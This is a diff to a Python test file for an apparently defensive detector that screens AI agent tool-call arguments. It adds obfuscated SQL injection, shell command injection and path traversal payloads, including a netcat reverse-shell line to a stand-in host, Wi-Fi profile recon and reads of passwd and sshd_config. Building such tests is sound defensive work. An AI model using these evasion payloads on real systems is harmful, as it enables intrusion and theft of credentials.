@@ -82,6 +82,37 @@ ATTACKS = [
     ("path: Windows system directory by variable", PATH, "read_file", "path", "%WINDIR%\\system32\\drivers\\etc\\hosts"),
     ("path: container runtime socket", PATH, "open_file", "path", "/var/run/docker.sock"),
     ("path: PHP session file", PATH, "read_file", "path", "/tmp/sess_abc123"),
+    # session 10: forms the extended generators produced (each missed by
+    # the rules before it)
+    ("sql: line comments before statement words", SQL, "lookup_order", "order_id", "1;#x\nDROP#x\nTABLE users"),
+    ("sql: encoded line comments before statement words", SQL, "lookup_order", "order_id", "1;%23x%0aDROP%23x%0aTABLE users"),
+    ("sql: quotes escaped with a backslash", SQL, "lookup_order", "order_id", "1\\' AND \\'1\\'=\\'1"),
+    ("cmd: octal ANSI-C string", CMD, "backup", "name", "x$($'\\151\\144')"),
+    ("cmd: a quoted piece closing a word", CMD, "ping_host", "host", "x\nl\"s\" -la /root"),
+    ("cmd: a quoted piece in a substitution", CMD, "ping_host", "host", "$(n\"c\" a.example 4444 -e /bin/bash)"),
+    ("cmd: brace expansion with an empty word", CMD, "resize_image", "image", "x$({whoami,})"),
+    ("cmd: locale string in braces", CMD, "backup", "name", '{,$"whoami",}'),
+    ("cmd: quoted command in a substitution", CMD, "dns_lookup", "domain", "8.8.8.8$('sleep' 5)"),
+    ("cmd: glob in a binary's own name", CMD, "backup", "name", "`/bin/w[h]oami`"),
+    ("cmd: FOR /F with a named variable", CMD, "ping_host", "host", "for /f %variable in ('whoami') do echo %variable"),
+    ("cmd: IMAP command after a line break", CMD, "git_clone", "url", "\r\na001 STATUS INBOX (MESSAGES)\n"),
+    ("cmd: Windows recon after a spaced separator", CMD, "ping_host", "host", "127.0.0.1 & netsh wlan show profiles"),
+    ("cmd: Windows recon in a value", CMD, "dns_lookup", "domain", "nltest /domain_trusts"),
+    ("cmd: Linux recon in a value", CMD, "backup", "name", "df -h"),
+    ("path: system configuration after a climb", PATH, "read_file", "path", "./../../etc/./ssh/./sshd_config"),
+    ("path: file URL naming localhost", PATH, "get_document", "name", "file://localhost/etc/fstab"),
+    ("path: climbing out of a home directory", PATH, "read_file", "path", "~/../../../var/mail/root"),
+    ("path: hex digits encoded one by one", PATH, "download", "file", "%%32%%65%%32%%65\\etc\\passwd"),
+    ("path: .../. segments", PATH, "list_directory", "path", ".../.\\.../.\\boot.ini"),
+    ("path: invalid escape after /.", PATH, "list_directory", "path", ".../.%bg%qf.../.%bg%qfboot.ini"),
+]
+
+# Evidence only the form as written holds: letters percent-encoded, which no
+# encoder writes (RFC 3986 2.3).  Decoded, it is a plain name; so encoding it
+# once more in a way the decoder undoes first (full-width %) loses it, and
+# it stays out of the property below.
+AS_WRITTEN = [
+    ("path: letters percent-encoded", PATH, "get_document", "name", "%2e%68%74%61%63%63%65%73%73"),
 ]
 
 # Classes the rules held before issue 16, kept as regressions (and as
@@ -132,6 +163,14 @@ BENIGN = [
     ("git_log", "range", "HEAD~3..HEAD"),
     ("git_diff", "range", "main...feature/login"),
     ("write_file", "content", "import os\nos.system('make test')\n"),
+    # session 10
+    ("translate", "text", 'private static final String SECRETKEY = "%SECRETKEY%";'),
+    ("send_email", "subject", 'gh secret set SIGNING_KEY --body "<signing-key>"'),
+    ("update_profile", "bio", '/SEARCH?SEARCH_SUBMIT=&Q=36"+X+48+"+FRAME&VIEW_TYPE=GALLERY&SHIP_TO=US'),
+    ("read_file", "path", "../etc/akto-proxy/akto-proxy.yaml"),
+    ("read_file", "path", "src/pages/[id].tsx"),
+    ("read_file", "path", "~/../shared/notes.md"),
+    ("fetch_url", "url", "https://example.com/a%20b/%C3%A9t%C3%A9.html"),
 ]
 
 
@@ -143,7 +182,7 @@ class ClassTests(SynchronousTestCase):
         """
         Each class is found by its check at medium.
         """
-        for name, check, tool, argument, payload in ATTACKS + HELD:
+        for name, check, tool, argument, payload in ATTACKS + HELD + AS_WRITTEN:
             found = rules(verdict(self.steps, call(tool, **{argument: payload})))
             self.assertTrue(any(r.startswith(check + ".") for r in found), f"{name}: {payload!r} -> {found}")
 
@@ -220,11 +259,15 @@ class NormaliseTests(SynchronousTestCase):
         self.assertEqual(decode("%c0%2e%c0%2e%c0%2f"), "../")
         self.assertEqual(decode("..%uEFC8..%uF025etc"), "../../etc")
         self.assertEqual(decode("\uff0e\uff0e\u2215"), "../")
+        self.assertEqual(decode("%%32%%65%%32%%65%%35%%63"), "..\\")
+        self.assertEqual(decode("50%a%20off"), "50%a off")
 
     def test_sql(self) -> None:
         self.assertEqual(joinSQL("1 UN/**/ION SEL/**/ECT 1"), "1 UNION SELECT 1")
         self.assertEqual(foldSQL("-1#x\nunion select 1"), "-1 union select 1")
         self.assertEqual(foldSQL("a # heading\nsome prose"), "a # heading some prose")
+        self.assertEqual(foldSQL("1;-- x\nDROP-- x\nTABLE t"), "1; DROP TABLE t")
+        self.assertEqual(foldSQL("x\\' or \\'a\\'=\\'a"), "x' or 'a'='a")
 
     def test_shell(self) -> None:
         self.assertEqual(foldShell("a=c;b=at;$a$b /etc/hosts"), "a=c;b=at;cat /etc/hosts")
@@ -234,9 +277,15 @@ class NormaliseTests(SynchronousTestCase):
         self.assertEqual(foldShell("c$?at"), "cat")
         self.assertEqual(foldShell("{,$'id',}"), "id")
         self.assertEqual(foldShell("price $5 and $HOME_PRICE"), "price  and $HOME_PRICE")
+        self.assertEqual(foldShell("$'\\143\\141\\164' /etc/hosts"), "cat /etc/hosts")
+        self.assertEqual(foldShell("$'\\u0063at'"), "cat")
+        self.assertEqual(foldShell("l\"s\" -la"), "ls -la")
+        self.assertEqual(foldShell("{whoami,}"), "whoami")
+        self.assertEqual(foldShell("wh'oami'"), "whoami")
+        self.assertEqual(foldShell("say 'fine'"), "say 'fine'")
 
     def test_variantsOnlyWhenNeeded(self) -> None:
-        for text in ("cost: $HOME_PRICE", "plain words", "a # heading\nsome prose"):
+        for text in ("cost: $HOME_PRICE", "plain words", "a # heading\nsome prose", "# Setup\nTo install, run it.\n## Notes\nIn short: yes"):
             self.assertEqual([v.kind for v in variants(text)], ["r"], text)
 
 
